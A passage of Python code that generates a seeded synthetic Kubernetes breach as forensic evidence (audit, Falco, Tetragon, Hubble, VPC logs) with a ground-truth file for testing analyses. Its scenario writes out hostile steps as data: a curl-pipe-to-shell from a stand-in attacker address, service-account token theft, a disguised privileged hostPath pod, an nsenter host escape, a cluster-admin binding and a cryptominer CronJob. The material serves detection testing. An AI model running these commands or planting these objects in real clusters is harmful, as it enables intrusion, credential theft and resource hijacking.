"""A seeded, deterministic sample breach: one scenario timeline written as real evidence
formats (API-server audit log and an EKS CloudWatch export, Falco, Tetragon, Hubble, VPC flow
logs, kubectl dumps) plus ``truth.json``, the ground truth later analyses are tested against.

The story (times relative to the start, 6 hours in all):

- 0:00–6:00 a normal cluster: kubelet leases, controllers, DNS, web → cart → payments traffic,
  a rollout of ``cart`` at 1:00;
- 2:00 an outside address scans the nodes; 2:10 remote code execution in a ``web`` pod (patient
  zero): a shell, a download, the pod's service-account token read;
- 2:15 the token is used from the pod's IP to look around and read a secret; 2:25 exec into the
  ``payments/api`` pod, whose stronger token is stolen and used — from the web pod's IP — to create
  a privileged, hostPath pod named like a system pod in kube-system; 2:33 a host escape (nsenter);
- 2:40 persistence: a cluster-admin binding and a CronJob from an untrusted registry; C2 beacons
  and cryptomining from then on; 3:00 tracks covered (events deleted, the privileged pod deleted);
- traps: the web pod is deleted at 3:10 and its IP taken by an innocent pod at 3:20; pods deleted
  before the inventory dump (5:55) exist only in the audit log; some Falco alerts carry only a
  container id; two malformed records.
"""

from __future__ import annotations

import datetime as dt
import gzip
import hashlib
import json
import random
import uuid
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

T0 = dt.datetime(2026, 3, 10, 8, 0, 0, tzinfo=dt.UTC)
CLUSTER = "prod-eu"
ATTACKER = "198.51.100.66"
C2 = "203.0.113.77"
POOL = "203.0.113.88"
NODES = {
    "node-1": ("10.0.1.11", "10.244.1."),
    "node-2": ("10.0.1.12", "10.244.2."),
    "node-3": ("10.0.1.13", "10.244.3."),
}
DUMP_AT = dt.timedelta(hours=5, minutes=55)
END = dt.timedelta(hours=6)


@dataclass
class Pod:
    namespace: str
    name: str
    uid: str
    node: str
    ip: str
    sa: str
    image: str
    owner: tuple[str, str] | None
    labels: dict[str, str]
    created: dt.datetime
    deleted: dt.datetime | None = None
    container_id: str = ""
    privileged: bool = False
    host_path: str | None = None
    host_pid: bool = False

    def object(self) -> dict[str, Any]:
        md: dict[str, Any] = {
            "name": self.name,
            "namespace": self.namespace,
            "uid": self.uid,
            "labels": self.labels,
            "creationTimestamp": _iso(self.created, 0),
        }
        if self.owner:
            md["ownerReferences"] = [
                {
                    "apiVersion": "apps/v1" if self.owner[0] != "Job" else "batch/v1",
                    "kind": self.owner[0],
                    "name": self.owner[1],
                    "uid": _uuid(self.owner[1]),
                    "controller": True,
                }
            ]
        sc = {"privileged": True} if self.privileged else {}
        spec: dict[str, Any] = {
            "nodeName": self.node,
            "serviceAccountName": self.sa,
            "containers": [
                {"name": self.name.split("-")[0], "image": self.image, **({"securityContext": sc} if sc else {})}
            ],
        }
        if self.host_pid:
            spec["hostPID"] = True
        if self.host_path:
            spec["volumes"] = [{"name": "host", "hostPath": {"path": self.host_path}}]
            spec["containers"][0]["volumeMounts"] = [{"name": "host", "mountPath": "/host"}]
        status = {
            "phase": "Running",
            "podIP": self.ip,
            "podIPs": [{"ip": self.ip}],
            "hostIP": NODES[self.node][0],
            "startTime": _iso(self.created + dt.timedelta(seconds=2), 0),
            "containerStatuses": [
                {
                    "name": spec["containers"][0]["name"],
                    "image": self.image,
                    "ready": True,
                    "containerID": f"containerd://{self.container_id}",
                }
            ],
        }
        return {"apiVersion": "v1", "kind": "Pod", "metadata": md, "spec": spec, "status": status}


def _uuid(seed: str) -> str:
    return str(uuid.UUID(hashlib.sha256(seed.encode()).hexdigest()[:32]))


def _iso(t: dt.datetime, digits: int = 6) -> str:
    s = t.astimezone(dt.UTC).strftime("%Y-%m-%dT%H:%M:%S")
    if digits:
        s += f".{t.microsecond:06d}"[: digits + 1]
    return s + "Z"


def _ns(t: dt.datetime) -> str:
    return t.strftime("%Y-%m-%dT%H:%M:%S.") + f"{t.microsecond:06d}000Z"


@dataclass
class _Out:
    """Events per evidence file, each with its time and the truth steps it belongs to."""

    files: dict[str, list[tuple[dt.datetime, Any, str | None]]] = field(default_factory=dict)

    def add(self, file: str, t: dt.datetime, payload: Any, step: str | None = None) -> None:
        self.files.setdefault(file, []).append((t, payload, step))


class _Scenario:
    def __init__(self, seed: int, scale: float) -> None:
        self.rng = random.Random(seed)
        self.seed = seed
        self.scale = scale
        self.out = _Out()
        self.pods: list[Pod] = []
        self.next_ip = dict.fromkeys(NODES, 10)
        self.truth: dict[str, Any] = {"steps": [], "ip_attribution": [], "container_ids": [], "malformed": []}
        self.api: Pod | None = None

    # ------------------------------------------------------------------ helpers

    def hex(self, n: int) -> str:
        return "".join(self.rng.choice("0123456789abcdef") for _ in range(n))

    def suffix(self, n: int = 5) -> str:
        return "".join(self.rng.choice("bcdfghjklmnpqrstvwxz2456789") for _ in range(n))

    def at(self, h: int, m: int, s: float = 0) -> dt.datetime:
        return T0 + dt.timedelta(hours=h, minutes=m, seconds=s)

    def pod(
        self,
        namespace: str,
        workload: str,
        kind: str,
        node: str,
        sa: str,
        image: str,
        created: dt.datetime,
        labels: dict[str, str] | None = None,
        ip: str | None = None,
        name: str | None = None,
        **kw: Any,
    ) -> Pod:
        if kind == "Deployment":
            h = self.suffix(10)
            owner: tuple[str, str] | None = ("ReplicaSet", f"{workload}-{h}")
            name = name or f"{workload}-{h}-{self.suffix()}"
            labels = {**(labels or {"app": workload}), "pod-template-hash": h}
        elif kind == "Job":
            owner = ("Job", workload)
            name = name or f"{workload}-{self.suffix()}"
            labels = labels or {"job-name": workload}
        else:
            owner = None
            name = name or workload
            labels = labels or {"app": workload}
        if ip is None:
            ip = NODES[node][1] + str(self.next_ip[node])
            self.next_ip[node] += 1
        p = Pod(
            namespace,
            name,
            _uuid(f"{self.seed}/{namespace}/{name}"),
            node,
            ip,
            sa,
            image,
            owner,
            labels,
            created,
            container_id=self.hex(64),
            **kw,
        )
        self.pods.append(p)
        self.audit_pod_lifecycle(p)
        return p

    def audit(
        self,
        t: dt.datetime,
        user: str,
        verb: str,
        uri: str,
        *,
        resource: str | None = None,
        namespace: str | None = None,
        name: str | None = None,
        subresource: str | None = None,
        group: str = "",
        code: int = 200,
        source_ip: str = "10.0.1.11",
        ua: str = "kube-controller-manager/v1.30.4",
        request: Any = None,
        extra: dict[str, list[str]] | None = None,
        step: str | None = None,
        groups: list[str] | None = None,
        level: str | None = None,
        file: str = "audit/kube-apiserver-audit.log",
        stages: tuple[str, ...] = ("ResponseComplete",),
    ) -> None:
        aid = _uuid(f"{self.seed}/{t.isoformat()}/{uri}/{self.rng.random()}")
        ref: dict[str, Any] = {}
        if resource:
            ref = {
                "resource": resource,
                "apiVersion": "v1" if not group else "v1",
                **({"namespace": namespace} if namespace else {}),
                **({"name": name} if name else {}),
                **({"subresource": subresource} if subresource else {}),
                **({"apiGroup": group} if group else {}),
            }
        decision = "allow" if code < 400 else "forbid"
        for k, stage in enumerate(stages):
            ev: dict[str, Any] = {
                "kind": "Event",
                "apiVersion": "audit.k8s.io/v1",
                "level": level or ("Request" if request is not None else "Metadata"),
                "auditID": aid,
                "stage": stage,
                "requestURI": uri,
                "verb": verb,
                "user": {
                    "username": user,
                    "groups": groups or ["system:authenticated"],
                    **({"extra": extra} if extra else {}),
                },
                "sourceIPs": [source_ip],
                "userAgent": ua,
                **({"objectRef": ref} if ref else {}),
                "requestReceivedTimestamp": _iso(t),
                "stageTimestamp": _iso(t + dt.timedelta(milliseconds=3 + 400 * k)),
            }
            if stage != "RequestReceived":
                ev["responseStatus"] = {
                    "metadata": {},
                    "code": code,
                    **({"reason": "Forbidden", "status": "Failure"} if code == 403 else {}),
                }
                ev["annotations"] = {
                    "authorization.k8s.io/decision": decision,
                    "authorization.k8s.io/reason": "RBAC: allowed by ClusterRoleBinding" if decision == "allow" else "",
                }
            if request is not None:
                ev["requestObject"] = request
            self.out.add(file, t + dt.timedelta(microseconds=k), ev, step if stage == stages[-1] else None)

    def audit_pod_lifecycle(self, p: Pod) -> None:
        ns_uri = f"/api/v1/namespaces/{p.namespace}/pods"
        creator = (
            "system:serviceaccount:kube-system:replicaset-controller"
            if p.owner and p.owner[0] == "ReplicaSet"
            else ("system:serviceaccount:kube-system:job-controller" if p.owner else "system:admin")
        )
        if p.created > T0:
            obj = p.object()
            obj["status"] = {"phase": "Pending"}
            self.audit(
                p.created,
                creator,
                "create",
                ns_uri,
                resource="pods",
                namespace=p.namespace,
                name=p.name,
                code=201,
                request=obj,
                level="RequestResponse",
            )
            status = {
                "status": {
                    "podIP": p.ip,
                    "podIPs": [{"ip": p.ip}],
                    "hostIP": NODES[p.node][0],
                    "containerStatuses": [
                        {"name": obj["spec"]["containers"][0]["name"], "containerID": f"containerd://{p.container_id}"}
                    ],
                }
            }
            self.audit(
                p.created + dt.timedelta(seconds=3),
                f"system:node:{p.node}",
                "patch",
                f"{ns_uri}/{p.name}/status",
                resource="pods",
                namespace=p.namespace,
                name=p.name,
                subresource="status",
                request=status,
                source_ip=NODES[p.node][0],
                ua="kubelet/v1.30.4",
            )

    def delete_pod(
        self, p: Pod, t: dt.datetime, user: str, source_ip: str = "10.0.1.11", step: str | None = None
    ) -> None:
        p.deleted = t
        self.audit(
            t,
            user,
            "delete",
            f"/api/v1/namespaces/{p.namespace}/pods/{p.name}",
            resource="pods",
            namespace=p.namespace,
            name=p.name,
            source_ip=source_ip,
            step=step,
            ua="kubectl/v1.30.2" if "serviceaccount" in user and step else "kube-controller-manager/v1.30.4",
        )

    def step(
        self,
        sid: str,
        name: str,
        phase: str,
        tactic: str,
        ms: str | None,
        attack: str,
        start: dt.datetime,
        end: dt.datetime,
        **entities: Any,
    ) -> None:
        self.truth["steps"].append(
            {
                "id": sid,
                "name": name,
                "kill_chain_phase": phase,
                "tactic": tactic,
                "technique_id": ms,
                "attack_id": attack,
                "start": _iso(start),
                "end": _iso(end),
                "entities": entities,
                "evidence": [],
            }
        )

    def hubble(
        self,
        t: dt.datetime,
        src: Pod | str,
        dst: Pod | str,
        dport: int,
        *,
        proto: str = "TCP",
        verdict: str = "FORWARDED",
        step: str | None = None,
        dns: str | None = None,
        direction: str = "EGRESS",
    ) -> None:
        def ep(x: Pod | str) -> dict[str, Any]:
            if isinstance(x, Pod):
                return {
                    "ID": int(x.uid[:4], 16),
                    "identity": 1000 + int(x.uid[4:6], 16),
                    "namespace": x.namespace,
                    "pod_name": x.name,
                    "labels": [f"k8s:{k}={v}" for k, v in x.labels.items()]
                    + [f"k8s:io.kubernetes.pod.namespace={x.namespace}"],
                    **(
                        {
                            "workloads": [
                                {
                                    "name": x.owner[1].rsplit("-", 1)[0] if x.owner[0] == "ReplicaSet" else x.owner[1],
                                    "kind": "Deployment" if x.owner[0] == "ReplicaSet" else x.owner[0],
                                }
                            ]
                        }
                        if x.owner
                        else {}
                    ),
                }
            return {"identity": 2, "labels": ["reserved:world"]}

        node = src.node if isinstance(src, Pod) else (dst.node if isinstance(dst, Pod) else "node-1")
        flow: dict[str, Any] = {
            "time": _ns(t),
            "verdict": verdict,
            "IP": {
                "source": src.ip if isinstance(src, Pod) else src,
                "destination": dst.ip if isinstance(dst, Pod) else dst,
                "ipVersion": "IPv4",
            },
            "l4": {proto: {"source_port": self.rng.randrange(32768, 60999), "destination_port": dport}},
            "source": ep(src),
            "destination": ep(dst),
            "Type": "L7" if dns else "L3_L4",
            "node_name": f"{CLUSTER}/{node}",
            "is_reply": False,
            "traffic_direction": direction,
            "trace_observation_point": "TO_STACK",
        }
        if verdict == "DROPPED":
            flow["drop_reason_desc"] = "POLICY_DENIED"
        if dns:
            flow["l7"] = {"type": "REQUEST", "dns": {"query": dns, "qtypes": ["A"]}}
        self.out.add(
            "flows/hubble-export.jsonl", t, {"flow": flow, "node_name": f"{CLUSTER}/{node}", "time": _ns(t)}, step
        )

    def vpc(
        self,
        t: dt.datetime,
        src: str,
        dst: str,
        sport: int,
        dport: int,
        *,
        action: str = "ACCEPT",
        pkt_src: str | None = None,
        pkt_dst: str | None = None,
        step: str | None = None,
        direction: str = "egress",
    ) -> None:
        start = int(t.timestamp()) // 60 * 60
        line = " ".join(
            str(x)
            for x in (
                5,
                "111122223333",
                "eni-0a1b2c3d",
                src,
                dst,
                sport,
                dport,
                6,
                self.rng.randrange(3, 40),
                self.rng.randrange(200, 9000),
                start,
                start + 60,
                action,
                "OK",
                "vpc-0prod",
                pkt_src or src,
                pkt_dst or dst,
                direction,
            )
        )
        self.out.add("flows/vpc-flow-logs.log", t, line, step)

    def exec_(
        self,
        t: dt.datetime,
        p: Pod,
        binary: str,
        args: str,
        *,
        parent: str = "/bin/sh",
        step: str | None = None,
        host: bool = False,
    ) -> str:
        exec_id = hashlib.sha256(f"{self.seed}{t}{binary}{args}".encode()).hexdigest()[:24]
        proc: dict[str, Any] = {
            "exec_id": exec_id,
            "pid": self.rng.randrange(1000, 60000),
            "uid": 0,
            "cwd": "/",
            "binary": binary,
            "arguments": args,
            "flags": "execve clone",
            "start_time": _ns(t),
            "auid": 4294967295,
            "parent_exec_id": exec_id[::-1],
        }
        if not host:
            proc["pod"] = {
                "namespace": p.namespace,
                "name": p.name,
                "container": {
                    "id": f"containerd://{p.container_id}",
                    "name": p.object()["spec"]["containers"][0]["name"],
                    "image": {"id": p.image, "name": p.image},
                    "pid": 1,
                },
                "pod_labels": p.labels,
                **(
                    {
                        "workload": p.owner[1].rsplit("-", 1)[0] if p.owner[0] == "ReplicaSet" else p.owner[1],
                        "workload_kind": "Deployment" if p.owner[0] == "ReplicaSet" else p.owner[0],
                    }
                    if p.owner
                    else {}
                ),
            }
        ev = {
            "process_exec": {
                "process": proc,
                "parent": {"exec_id": exec_id[::-1], "binary": parent, "pid": proc["pid"] - 1},
            },
            "node_name": p.node,
            "time": _ns(t),
            "cluster_name": CLUSTER,
        }
        self.out.add("runtime/tetragon-events.jsonl", t, ev, step)
        return exec_id

    def falco(
        self,
        t: dt.datetime,
        rule: str,
        priority: str,
        output: str,
        fields: dict[str, Any],
        node: str,
        tags: list[str],
        step: str | None = None,
    ) -> None:
        ev = {
            "hostname": node,
            "output": f"{t.strftime('%H:%M:%S')}.{t.microsecond:06d}000: {priority} {output}",
            "priority": priority,
            "rule": rule,
            "source": "syscall",
            "tags": tags,
            "time": _ns(t),
            "output_fields": {"evt.time": int(t.timestamp()) * 10**9 + t.microsecond * 1000, **fields},
        }
        self.out.add("runtime/falco-alerts.jsonl", t, ev, step)


def write_sample_evidence(directory: str | Path, *, seed: int = 0, scale: float = 1.0) -> Path:
    """Write the sample breach under ``directory`` (evidence files and ``truth.json``); the
    same seed and scale always give byte-identical files. Returns the path of ``truth.json``."""
    s = _Scenario(seed, scale)
    _build(s)
    return _write(s, Path(directory))


def _build(s: _Scenario) -> None:
    at = s.at
    # ---------------------------------------------------------------- the cluster before
    web_a = s.pod(
        "shop", "web", "Deployment", "node-1", "web", "registry.corp/shop/web:1.8.2", T0 - dt.timedelta(days=3)
    )
    web_b = s.pod(
        "shop", "web", "Deployment", "node-2", "web", "registry.corp/shop/web:1.8.2", T0 - dt.timedelta(days=3)
    )
    web_b.owner, web_b.labels = web_a.owner, web_a.labels  # same ReplicaSet
    web_b.name = web_b.owner[1] + "-" + s.suffix() if web_b.owner else web_b.name
    cart_old = s.pod(
        "shop", "cart", "Deployment", "node-3", "cart", "registry.corp/shop/cart:2.4.0", T0 - dt.timedelta(days=3)
    )
    api = s.pod(
        "payments",
        "api",
        "Deployment",
        "node-2",
        "payments-api",
        "registry.corp/payments/api:5.1.0",
        T0 - dt.timedelta(days=2),
    )
    dns = s.pod(
        "kube-system",
        "coredns",
        "Deployment",
        "node-3",
        "coredns",
        "registry.k8s.io/coredns/coredns:v1.11.1",
        T0 - dt.timedelta(days=9),
        labels={"k8s-app": "kube-dns"},
    )
    prom = s.pod(
        "monitoring",
        "prometheus",
        "StatefulSet",
        "node-3",
        "prometheus",
        "quay.io/prometheus/prometheus:v2.53.0",
        T0 - dt.timedelta(days=9),
        name="prometheus-0",
    )
    prom.owner = ("StatefulSet", "prometheus")

    # ---------------------------------------------------------------- background noise
    n_noise = int(240 * s.scale)
    for i in range(n_noise):
        t = T0 + dt.timedelta(seconds=i * END.total_seconds() / n_noise + s.rng.random())
        for node, (node_ip, _) in NODES.items():
            s.audit(
                t,
                f"system:node:{node}",
                "update",
                f"/apis/coordination.k8s.io/v1/namespaces/kube-node-lease/leases/{node}",
                resource="leases",
                namespace="kube-node-lease",
                name=node,
                group="coordination.k8s.io",
                source_ip=node_ip,
                ua="kubelet/v1.30.4",
                groups=["system:nodes", "system:authenticated"],
            )
        if i % 4 == 0:
            s.audit(
                t,
                "system:serviceaccount:kube-system:endpointslice-controller",
                "list",
                "/apis/discovery.k8s.io/v1/endpointslices",
                resource="endpointslices",
                group="discovery.k8s.io",
                stages=("RequestReceived", "ResponseComplete"),
            )
        live = [
            p
            for p in s.pods
            if p.created <= t and (p.deleted is None or p.deleted > t) and p.namespace in ("shop", "payments")
        ]
        if live:
            client = s.rng.choice(live)
            s.hubble(t, client, dns, 53, proto="UDP", dns="api.payments.svc.cluster.local.")
            web = [p for p in live if p.name.startswith("web")]
            carts = [p for p in live if p.name.startswith("cart")]
            if web and carts:
                s.hubble(t + dt.timedelta(milliseconds=5), s.rng.choice(web), s.rng.choice(carts), 8080)
                s.vpc(
                    t,
                    NODES[web[0].node][0],
                    NODES[carts[0].node][0],
                    s.rng.randrange(32768, 60999),
                    8080,
                    pkt_src=web[0].ip,
                    pkt_dst=carts[0].ip,
                )
            if carts:
                s.hubble(t + dt.timedelta(milliseconds=9), s.rng.choice(carts), api, 8443)
        s.hubble(t, prom, api, 9090)
        if i % 6 == 0:
            s.exec_(t, api, "/usr/bin/wget", "-q -O- http://localhost:8443/healthz", parent="/usr/bin/containerd-shim")
    # a rollout of cart at 1:00
    s.pod("shop", "cart", "Deployment", "node-3", "cart", "registry.corp/shop/cart:2.4.1", at(1, 0))
    s.delete_pod(cart_old, at(1, 1), "system:serviceaccount:kube-system:replicaset-controller")

    wa = "system:serviceaccount:shop:web"
    extra_web = {
        "authentication.kubernetes.io/pod-name": [web_a.name],
        "authentication.kubernetes.io/pod-uid": [web_a.uid],
        "authentication.kubernetes.io/node-name": [web_a.node],
        "authentication.kubernetes.io/credential-id": [f"JTI={s.hex(32)}"],
    }
    pa = "system:serviceaccount:payments:payments-api"
    extra_api = {
        "authentication.kubernetes.io/pod-name": [api.name],
        "authentication.kubernetes.io/pod-uid": [api.uid],
        "authentication.kubernetes.io/node-name": [api.node],
        "authentication.kubernetes.io/credential-id": [f"JTI={s.hex(32)}"],
    }

    # ---------------------------------------------------------------- 1 recon
    s.step(
        "recon",
        "External scan of the nodes",
        "Reconnaissance",
        "Discovery",
        "MS-TA9031",
        "T1046",
        at(2, 0),
        at(2, 5),
        source_ip=ATTACKER,
    )
    for k, port in enumerate([22, 80, 443, 6443, 10250, 30080, 30443, 2379]):
        for node_ip, _ in NODES.values():
            s.vpc(
                at(2, 0, k * 20 + s.rng.random()),
                ATTACKER,
                node_ip,
                s.rng.randrange(40000, 60000),
                port,
                action="ACCEPT" if port == 30080 else "REJECT",
                step="recon",
                direction="ingress",
            )
    # ---------------------------------------------------------------- 2 exploitation: RCE in web-a
    s.step(
        "exploit",
        "Remote code execution in the web pod",
        "Exploitation",
        "Initial Access",
        "MS-TA9004",
        "T1190",
        at(2, 10),
        at(2, 11),
        namespace="shop",
        pod=web_a.name,
        source_ip=ATTACKER,
    )
    s.hubble(at(2, 9, 50), ATTACKER, web_a, 8080, step="exploit", direction="INGRESS")
    s.exec_(
        at(2, 10),
        web_a,
        "/bin/sh",
        '-c "curl -s http://198.51.100.66/x.sh | sh"',
        parent="/usr/bin/java",
        step="exploit",
    )
    s.falco(
        at(2, 10, 0.2),
        "Run shell untrusted",
        "Notice",
        f"Shell spawned by untrusted binary (parent=java cmdline=sh -c curl k8s.ns=shop k8s.pod={web_a.name})",
        {
            "container.id": web_a.container_id[:12],
            "k8s.ns.name": "shop",
            "k8s.pod.name": web_a.name,
            "proc.cmdline": "sh -c curl -s http://198.51.100.66/x.sh | sh",
            "proc.pname": "java",
            "proc.exepath": "/bin/sh",
            "user.name": "root",
        },
        web_a.node,
        ["container", "shell", "mitre_execution", "T1059.004"],
        step="exploit",
    )
    # ---------------------------------------------------------------- 3 delivery: download
    s.step(
        "download",
        "Payload download from the attacker",
        "Delivery",
        "Execution",
        "MS-TA9007",
        "T1105",
        at(2, 10, 1),
        at(2, 11),
        namespace="shop",
        pod=web_a.name,
        destination_ip=ATTACKER,
    )
    s.exec_(at(2, 10, 1), web_a, "/usr/bin/curl", "-s http://198.51.100.66/x.sh", step="download")
    s.hubble(at(2, 10, 1.1), web_a, ATTACKER, 80, step="download")
    s.vpc(at(2, 10, 1.1), NODES[web_a.node][0], ATTACKER, 41234, 80, pkt_src=web_a.ip, step="download")
    # ---------------------------------------------------------------- 4 token theft
    s.step(
        "token-theft",
        "Service-account token read in the web pod",
        "Actions on Objectives",
        "Credential Access",
        "MS-TA9016",
        "T1528",
        at(2, 12),
        at(2, 12, 5),
        namespace="shop",
        pod=web_a.name,
        service_account="shop/web",
    )
    s.exec_(at(2, 12), web_a, "/bin/cat", "/var/run/secrets/kubernetes.io/serviceaccount/token", step="token-theft")
    s.falco(
        at(2, 12, 0.1),
        "Read sensitive file untrusted",
        "Warning",
        "Sensitive file opened for reading by non-trusted program (file=/var/run/secrets/kubernetes.io/serviceaccount/token)",
        {
            "container.id": web_a.container_id[:12],
            "k8s.ns.name": "shop",
            "k8s.pod.name": web_a.name,
            "fd.name": "/var/run/secrets/kubernetes.io/serviceaccount/token",
            "proc.cmdline": "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
            "user.name": "root",
        },
        web_a.node,
        ["filesystem", "mitre_credential_access"],
        step="token-theft",
    )
    # ---------------------------------------------------------------- 5 discovery and a secret read with the web token
    s.step(
        "discovery",
        "API discovery with the stolen web token",
        "Actions on Objectives",
        "Discovery",
        "MS-TA9029",
        "T1613",
        at(2, 15),
        at(2, 19),
        service_account="shop/web",
        source_ip=web_a.ip,
    )
    kubectl = "kubectl/v1.30.2 (linux/amd64) kubernetes/9e0b3b6"
    s.audit(
        at(2, 15),
        wa,
        "create",
        "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews",
        resource="selfsubjectrulesreviews",
        group="authorization.k8s.io",
        code=201,
        source_ip=web_a.ip,
        ua=kubectl,
        extra=extra_web,
        step="discovery",
    )
    s.audit(
        at(2, 15, 10),
        wa,
        "list",
        "/api/v1/pods",
        resource="pods",
        code=403,
        source_ip=web_a.ip,
        ua=kubectl,
        extra=extra_web,
        step="discovery",
    )
    s.audit(
        at(2, 15, 20),
        wa,
        "list",
        "/api/v1/namespaces/payments/pods",
        resource="pods",
        namespace="payments",
        source_ip=web_a.ip,
        ua=kubectl,
        extra=extra_web,
        step="discovery",
    )
    s.audit(
        at(2, 16),
        wa,
        "list",
        "/api/v1/namespaces/shop/secrets",
        resource="secrets",
        namespace="shop",
        code=403,
        source_ip=web_a.ip,
        ua=kubectl,
        extra=extra_web,
        step="discovery",
    )
    s.step(
        "secret-read",
        "Payments database secret read",
        "Actions on Objectives",
        "Credential Access",
        "MS-TA9025",
        "T1552.007",
        at(2, 18),
        at(2, 19),
        service_account="shop/web",
        secret="payments/db-credentials",
    )
    s.audit(
        at(2, 18),
        wa,
        "get",
        "/api/v1/namespaces/payments/secrets/db-credentials",
        resource="secrets",
        namespace="payments",
        name="db-credentials",
        source_ip=web_a.ip,
        ua=kubectl,
        extra=extra_web,
        step="secret-read",
    )
    # ---------------------------------------------------------------- 6 exec into payments/api, its token stolen
    s.step(
        "exec",
        "Exec into the payments api pod",
        "Actions on Objectives",
        "Lateral Movement",
        "MS-TA9006",
        "T1609",
        at(2, 25),
        at(2, 26),
        service_account="shop/web",
        namespace="payments",
        pod=api.name,
    )
    s.audit(
        at(2, 25),
        wa,
        "create",
        f"/api/v1/namespaces/payments/pods/{api.name}/exec?command=sh&command=-c&command=cat%20%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken&container=api&stdout=true",
        resource="pods",
        namespace="payments",
        name=api.name,
        subresource="exec",
        code=101,
        source_ip=web_a.ip,
        ua=kubectl,
        extra=extra_web,
        step="exec",
        stages=("RequestReceived", "ResponseStarted", "ResponseComplete"),
    )
    s.exec_(
        at(2, 25, 1),
        api,
        "/bin/sh",
        '-c "cat /var/run/secrets/kubernetes.io/serviceaccount/token"',
        parent="/usr/bin/runc",
        step="exec",
    )
    # ---------------------------------------------------------------- 7 the api token used from the web pod's IP: a privileged pod
    evil = s.pod(
        "kube-system",
        "kube-proxy-x7k2p",
        "Pod",
        "node-2",
        "default",
        "docker.io/library/alpine:3.19",
        at(2, 30),
        name="kube-proxy-x7k2p",
        labels={"k8s-app": "kube-proxy"},
        privileged=True,
        host_pid=True,
        host_path="/",
    )
    create_req = evil.object()
    s.out.files["audit/kube-apiserver-audit.log"] = [
        e
        for e in s.out.files["audit/kube-apiserver-audit.log"]
        if not (
            isinstance(e[1], dict)
            and e[1].get("verb") == "create"
            and e[1].get("objectRef", {}).get("name") == evil.name
        )
    ]
    s.step(
        "privileged-pod",
        "Privileged hostPath pod created in kube-system with the stolen api token",
        "Exploitation",
        "Privilege Escalation",
        "MS-TA9018",
        "T1610",
        at(2, 30),
        at(2, 31),
        service_account="payments/payments-api",
        source_ip=web_a.ip,
        namespace="kube-system",
        pod=evil.name,
    )
    s.audit(
        at(2, 30),
        pa,
        "create",
        "/api/v1/namespaces/kube-system/pods",
        resource="pods",
        namespace="kube-system",
        name=evil.name,
        code=201,
        source_ip=web_a.ip,
        ua=kubectl,
        extra=extra_api,
        request=create_req,
        level="RequestResponse",
        step="privileged-pod",
    )
    s.truth["steps"][-1]["entities"]["name_similarity"] = "kube-proxy-*"
    # ---------------------------------------------------------------- 8 host escape
    s.step(
        "host-escape",
        "Host escape with nsenter from the privileged pod",
        "Exploitation",
        "Privilege Escalation",
        "MS-TA9018",
        "T1611",
        at(2, 33),
        at(2, 34),
        namespace="kube-system",
        pod=evil.name,
        node=evil.node,
    )
    s.exec_(at(2, 33), evil, "/usr/bin/nsenter", "-t 1 -m -u -n -i -p /bin/bash", step="host-escape")
    s.falco(
        at(2, 33, 0.2),
        "Launch Privileged Container",
        "Warning",
        "Privileged container started (container=kube-proxy-x7k2p)",
        {
            "container.id": evil.container_id[:12],
            "k8s.ns.name": "<NA>",
            "k8s.pod.name": "<NA>",
            "container.privileged": True,
            "container.image.repository": "docker.io/library/alpine",
            "proc.cmdline": "nsenter -t 1 -m -u -n -i -p /bin/bash",
        },
        evil.node,
        ["container", "mitre_privilege_escalation", "T1611"],
        step="host-escape",
    )
    s.truth["container_ids"].append(
        {
            "container_id": evil.container_id[:12],
            "namespace": evil.namespace,
            "pod": evil.name,
            "note": "Falco alert without pod metadata",
        }
    )
    # ---------------------------------------------------------------- 9 persistence
    s.step(
        "persistence",
        "Cluster-admin binding and a CronJob from an untrusted registry",
        "Installation",
        "Persistence",
        "MS-TA9019",
        "T1078.003",
        at(2, 40),
        at(2, 42),
        service_account="payments/payments-api",
        objects=["clusterrolebinding/system:monitoring-agents", "kube-system/cronjob/log-rotate"],
    )
    crb = {
        "kind": "ClusterRoleBinding",
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "metadata": {"name": "system:monitoring-agents"},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
        "subjects": [{"kind": "ServiceAccount", "name": "default", "namespace": "kube-system"}],
    }
    s.audit(
        at(2, 40),
        pa,
        "create",
        "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings",
        resource="clusterrolebindings",
        name="system:monitoring-agents",
        group="rbac.authorization.k8s.io",
        code=201,
        source_ip=web_a.ip,
        ua=kubectl,
        extra=extra_api,
        request=crb,
        level="Request",
        step="persistence",
    )
    cron = {
        "kind": "CronJob",
        "apiVersion": "batch/v1",
        "metadata": {"name": "log-rotate", "namespace": "kube-system"},
        "spec": {
            "schedule": "*/30 * * * *",
            "jobTemplate": {
                "spec": {
                    "template": {
                        "spec": {
                            "serviceAccountName": "default",
                            "restartPolicy": "Never",
                            "containers": [
                                {
                                    "name": "rotate",
                                    "image": "docker.io/evilcorp/xmr:latest",
                                    "args": ["-o", f"stratum+tcp://{POOL}:3333", "--donate-level", "1"],
                                }
                            ],
                        }
                    }
                }
            },
        },
    }
    s.audit(
        at(2, 41),
        pa,
        "create",
        "/apis/batch/v1/namespaces/kube-system/cronjobs",
        resource="cronjobs",
        namespace="kube-system",
        name="log-rotate",
        group="batch",
        code=201,
        source_ip=web_a.ip,
        ua=kubectl,
        extra=extra_api,
        request=cron,
        level="Request",
        step="persistence",
    )
    s.truth["persistence"] = [
        {"kind": "ClusterRoleBinding", "name": "system:monitoring-agents"},
        {"kind": "CronJob", "namespace": "kube-system", "name": "log-rotate"},
    ]
    # ---------------------------------------------------------------- 10 C2 from the privileged pod
    s.step(
        "c2",
        "Command-and-control beacons",
        "Command & Control",
        "Command and Control",
        None,
        "T1071",
        at(2, 35),
        at(2, 55),
        namespace="kube-system",
        pod=evil.name,
        destination_ip=C2,
    )
    for k in range(5):
        t = at(2, 35 + 5 * k)
        s.hubble(t, evil, C2, 443, step="c2")
        s.vpc(t, NODES[evil.node][0], C2, 50000 + k, 443, pkt_src=evil.ip, step="c2")
    # ---------------------------------------------------------------- 11 mining from the CronJob's pods
    s.step(
        "mining",
        "Cryptomining from the CronJob's pods",
        "Actions on Objectives",
        "Impact",
        "MS-TA9039",
        "T1496",
        at(3, 0),
        at(5, 31),
        namespace="kube-system",
        workload="CronJob/log-rotate",
        destination_ip=POOL,
    )
    for hh in ((3, 0), (3, 30), (4, 0), (4, 30), (5, 0), (5, 30)):
